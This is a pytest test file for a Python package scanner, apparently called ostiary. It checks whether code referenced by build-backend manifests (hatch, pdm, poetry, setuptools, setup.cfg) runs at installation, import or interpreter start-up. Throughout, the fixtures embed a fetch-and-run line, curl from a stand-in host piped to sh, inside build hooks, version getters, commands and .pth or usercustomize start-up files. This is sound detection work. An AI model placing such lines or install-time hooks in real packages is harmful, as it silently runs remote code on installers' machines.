"""Code that a build back end runs since a manifest names it runs at installation; elsewhere it waits."""

from textwrap import indent

import pytest
from program_of import program_of

from ostiary.core.coverage import Reach
from ostiary.program.build_hooks import is_constant

RUNS = "    import os\n    os.system('curl http://a.example.invalid/x | sh')\n"
GET = f"def get(*a):\n{RUNS}    return '1.0'\n"
GO = f"def build_wheel(*a, **k):\n{RUNS}"
HATCHLING, PDM, POETRY = "hatchling.build", "pdm.backend", "poetry.core.masonry.api"
SETUPTOOLS, SCIKIT = "setuptools.build_meta", "scikit_build_core.build"


def system(backend: str, text: str = "") -> str:
    return f'[build-system]\nrequires = []\nbuild-backend = "{backend}"\n{text}\n'


def method(name: str, base: str) -> str:
    head = f"from outside import {base}\nclass One({base}):\n    def {name}(self, *a):\n"
    return head + indent(RUNS, "    ")


HOOK = method("initialize", "BuildHookInterface")
COMMAND = method("run", "build_py")
CUSTOM = '[tool.hatch.build.hooks.custom]\npath = "tools/v.py"'

TOLD = {
    "a hook of hatch": (HATCHLING, CUSTOM, "tools/v.py", HOOK),
    "one of a target": (
        HATCHLING,
        CUSTOM.replace("build.hooks", "build.targets.wheel.hooks"),
        "tools/v.py",
        HOOK,
    ),
    "one under its own name": (
        HATCHLING,
        "[tool.hatch.build.hooks.custom]",
        "hatch_build.py",
        HOOK,
    ),
    "one for metadata": (
        HATCHLING,
        CUSTOM.replace("build.hooks", "metadata.hooks"),
        "tools/v.py",
        method("update", "MetadataHookInterface"),
    ),
    "a version out of code": (
        HATCHLING,
        '[tool.hatch.version]\nsource = "code"\npath = "tools/v.py"\nexpression = "get()"',
        "tools/v.py",
        GET,
    ),
    "a getter of pdm": (
        PDM,
        '[tool.pdm.version]\nsource = "call"\ngetter = "tools.v:get"',
        "tools/v.py",
        GET,
    ),
    "a hook of pdm": (
        PDM,
        '[tool.pdm.build]\ncustom-hook = "tools/v.py"',
        "tools/v.py",
        GET.replace("get", "pdm_build_initialize"),
    ),
    "one that nobody names": (PDM, "", "pdm_build.py", GET.replace("get", "pdm_build_clean")),
    "a script of poetry": (
        POETRY,
        '[tool.poetry.build]\nscript = "tools/v.py"',
        "tools/v.py",
        f"{GET}\nif __name__ == '__main__':\n    get()\n",
    ),
    "the short form of it": (
        POETRY,
        '[tool.poetry]\nbuild = "build.py"',
        "build.py",
        GET.replace("get", "build"),
    ),
    "an attribute": (
        SETUPTOOLS,
        '[tool.setuptools.dynamic]\nversion = {attr = "tools.v.get"}',
        "tools/v.py",
        GET,
    ),
    "an attribute below a folder": (
        SETUPTOOLS,
        '[tool.setuptools]\npackage-dir = {"" = "code"}\ndynamic.version = {attr = "tools.v.get"}',
        "code/tools/v.py",
        GET,
    ),
    "a command": (
        SETUPTOOLS,
        '[tool.setuptools.cmdclass]\nbuild_py = "tools.v.One"',
        "tools/v.py",
        COMMAND,
    ),
    "a scheme of versions": (
        SETUPTOOLS,
        '[tool.setuptools_scm]\nversion_scheme = "tools.v:get"',
        "tools/v.py",
        GET,
    ),
    "an entry point": (
        f"{SETUPTOOLS}:__legacy__",
        '[project.entry-points."setuptools.finalize_distribution_options"]\nx = "tools.v:get"',
        "tools/v.py",
        GET,
    ),
    "a provider": (
        SCIKIT,
        '[tool.scikit-build.metadata.version]\nprovider = "v"\nprovider-path = "tools"',
        "tools/v.py",
        GET.replace("get", "dynamic_metadata"),
    ),
    "a project of sip": ("sipbuild.api", "", "project.py", method("setup", "Project")),
    "whatever a back end of its own hands on to": (
        'own"\nbackend-path = ["x"]\n#"',
        CUSTOM,
        "tools/v.py",
        HOOK,
    ),
    "a back end that nobody knows": (
        "strange.build",
        '[tool.setuptools.dynamic]\nversion = {attr = "tools.v.get"}',
        "tools/v.py",
        GET,
    ),
}

IN_SETUP_CFG = {
    "an attribute": ("[metadata]\nversion = attr: tools.v.get\n", GET),
    "a command": ("[options]\ncmdclass =\n    egg_info = tools.v.One\n", COMMAND),
    "an entry point": (
        "[options.entry_points]\ndistutils.commands =\n    build = tools.v:One\n",
        COMMAND,
    ),
    "a package of commands": ("[global]\ncommand_packages = tools\n", COMMAND),
    "a hook": ("[global]\nsetup_hooks = tools.v.get\n", GET),
    "a hook before a command": ("[build_py]\npre-hook.one = tools.v.get\n", GET),
}


def moments(files: dict[str, str]) -> set[Reach]:
    whole = {"sample/__init__.py": "", **files}
    return {one.reach for one in program_of("sdist", whole).flows if "curl" in one.text}


@pytest.mark.parametrize("what", TOLD)
def test_what_a_manifest_names_runs_at_installation(what: str) -> None:
    backend, table, path, text = TOLD[what]
    assert moments({"pyproject.toml": system(backend, table), path: text}) == {Reach.INSTALL}


@pytest.mark.parametrize("what", TOLD)
def test_what_this_back_end_does_not_read_waits(what: str) -> None:
    _, table, path, text = TOLD[what]
    later = Reach.IMPORT if what == "an entry point" else Reach.CALL  # once it is installed
    assert moments({"pyproject.toml": system("maturin", table), path: text}) == {later}


@pytest.mark.parametrize("what", IN_SETUP_CFG)
def test_what_setup_cfg_names(what: str) -> None:
    config, text = IN_SETUP_CFG[what]
    assert moments({"setup.cfg": config, "tools/v.py": text}) == {Reach.INSTALL}
    assert moments({"setup.cfg": "", "tools/v.py": text}) == {Reach.CALL}


def test_a_file_that_only_hatch_reads() -> None:
    own = {"hatch.toml": CUSTOM.replace("tool.hatch.", ""), "tools/v.py": HOOK}
    assert moments({"pyproject.toml": system(HATCHLING), **own}) == {Reach.INSTALL}
    assert moments({"pyproject.toml": system(SETUPTOOLS), **own}) == {Reach.CALL}


def test_what_is_imported_is_no_program() -> None:
    text = f"{GET}\nif __name__ == '__main__':\n    get()\n"
    told = system(SETUPTOOLS, '[tool.setuptools.dynamic]\nversion = {attr = "tools.v.VERSION"}')
    assert moments({"pyproject.toml": told, "tools/v.py": text}) == {Reach.CALL}


def test_what_an_earlier_build_named() -> None:
    points = "[distutils.commands]\negg_info = tools.v:One\n"
    told = {"sample.egg-info/entry_points.txt": points, "tools/v.py": COMMAND}
    assert moments(told) == {Reach.INSTALL}
    assert moments({**told, "pyproject.toml": system(SETUPTOOLS)}) == {Reach.CALL}


@pytest.mark.parametrize(
    "text",
    [
        "from base import One\n",
        "from base import One as Two\nclass One(Two):\n    x = 1\n",
        "import base\nOne = base.One\n",
    ],
)
def test_a_hook_that_comes_from_elsewhere(text: str) -> None:
    files = {"pyproject.toml": system(HATCHLING, CUSTOM), "tools/v.py": text, "tools/base.py": HOOK}
    assert Reach.INSTALL in moments(files)


def test_a_function_that_is_defined_twice_or_given_a_name() -> None:
    told = system(PDM, '[tool.pdm.version]\nsource = "call"\ngetter = "tools.v:get"')
    for text in (f"def get():\n    return 1\n{GET}", GET.replace("get", "_get") + "get = _get\n"):
        assert moments({"pyproject.toml": told, "tools/v.py": text}) == {Reach.INSTALL}


def test_commands_in_a_manifest() -> None:
    scripts = '[[tool.hatch.build.hooks.build-scripts.scripts]]\ncommands = ["{}"]\n'
    told = system(HATCHLING, scripts.format("curl http://a.example.invalid/x | sh"))
    flows = program_of("sdist", {"pyproject.toml": told}).flows
    assert {(one.at.line, one.reach) for one in flows} == {(5, Reach.INSTALL)}
    code = '[tool.hatch.version]\nsource = "code"\npath = "v.py"\nexpression = "{}"\n'
    text = "__import__('os').system('curl http://a.example.invalid/x | sh')"
    assert moments({"pyproject.toml": system(HATCHLING, code.format(text))}) == {Reach.INSTALL}
    assert not program_of("sdist", {"pyproject.toml": system(SETUPTOOLS, code.format(text))}).flows


WHEEL = "[tool.hatch.build.targets.wheel"
FILES = "[options.data_files]\n"
RUN_AT_START = "import os; os.system('curl http://a.example.invalid/x | sh')\n"


@pytest.mark.parametrize(
    ("manifest", "told", "path"),
    [
        ("pyproject.toml", f'{WHEEL}.force-include]\n"a/b.txt" = "b.pth"', "a/b.txt"),
        ("pyproject.toml", '[tool.hatch.build.force-include]\n"./a/" = "/"', "a/sitecustomize.py"),
        ("pyproject.toml", f'{WHEEL}]\nsources = ["a"]', "a/usercustomize.py"),
        ("pyproject.toml", f'{WHEEL}]\npackages = ["a/usercustomize.py"]', "a/usercustomize.py"),
        ("pyproject.toml", f'{WHEEL}.shared-data]\n"a/b.py" = "etc/ipython/b.py"', "a/b.py"),
        (
            "pyproject.toml",
            '[tool.setuptools]\npackage-dir = {"usercustomize" = "a"}',
            "a/__init__.py",
        ),
        ("setup.cfg", "[options]\npackage_dir =\n    = a\n", "a/usercustomize.py"),
        (
            "setup.cfg",
            f"{FILES}lib/python3/site-packages = a/usercustomize.py\n",
            "a/usercustomize.py",
        ),
    ],
)
def test_files_that_become_start_up_files(manifest: str, told: str, path: str) -> None:
    text = system(HATCHLING, told) if manifest == "pyproject.toml" else told
    assert moments({manifest: text, path: RUN_AT_START}) == {Reach.START}
    assert Reach.START not in moments({path: RUN_AT_START})


COPIES = """
from setuptools import setup
from setuptools.command.build_py import build_py
import os, shutil
class Built(build_py):
    def run(self):
        {}
setup(name="sample", cmdclass={{"build_py": Built}})
"""


@pytest.mark.parametrize("copy", ["self.copy_file", "shutil.copyfile", "self.move_file"])
def test_a_member_that_a_command_turns_into_a_start_up_file(copy: str) -> None:
    for name, found in (("b.pth", {Reach.INSTALL}), ("b.txt", set())):
        text = COPIES.format(f"{copy}('a/b.txt', os.path.join(self.build_lib, '{name}'))")
        assert moments({"setup.py": text, "a/b.txt": RUN_AT_START}) - {Reach.CALL} == found


@pytest.mark.parametrize(
    ("text", "constant"),
    [
        ("__version__ = '1.0'", True),
        ("__version__: str = '1.0'\nimport os", True),
        ("a = __version__ = (1, 0)", True),
        ("__version__ = get()", False),
        ("__version__ = get()\n__version__ = '1.0'", False),
        ("'''\n__version__ = '1.0'\n'''\nfrom .v import __version__", False),
        ("if True:\n    __version__ = '1.0'", False),
        ("__version__ = '1.0'\n(", False),
        ("__version__: str", False),
        ("", False),
    ],
)
def test_a_value_that_is_read_and_not_run(text: str, *, constant: bool) -> None:
    assert is_constant(text.encode(), "__version__") is constant
    told = system(SETUPTOOLS, '[tool.setuptools.dynamic]\nversion = {attr = "tools.v.__version__"}')
    level = f"{text}\nimport os; os.system('curl http://a.example.invalid/x | sh')\n"
    if "(" not in text or constant:
        at = Reach.CALL if constant else Reach.INSTALL
        assert moments({"pyproject.toml": told, "tools/v.py": level}) == {at}


OBJECTS = {
    "an object": f"class B:\n{indent(GO, '    ')}be = B()\n",
    "one that inherits": f"class A:\n{indent(GO, '    ')}class B(A):\n    pass\nbe = B()\n",
    "a class": f"class be:\n    @staticmethod\n{indent(GO, '    ')}",
    "what was put into one": f"{GO}class B:\n    pass\nbe = B()\nbe.build_wheel = build_wheel\n",
}


@pytest.mark.parametrize("what", OBJECTS)
def test_a_back_end_that_is_an_object(what: str) -> None:
    told = system("backend:be", 'backend-path = ["_b"]')
    assert moments({"pyproject.toml": told, "_b/backend.py": OBJECTS[what]}) == {Reach.INSTALL}


def test_an_object_that_is_no_back_end() -> None:
    told = system("backend:other", 'backend-path = ["_b"]')
    text = OBJECTS["an object"] + "other = 1\n"
    assert moments({"pyproject.toml": told, "_b/backend.py": text}) != {Reach.INSTALL}
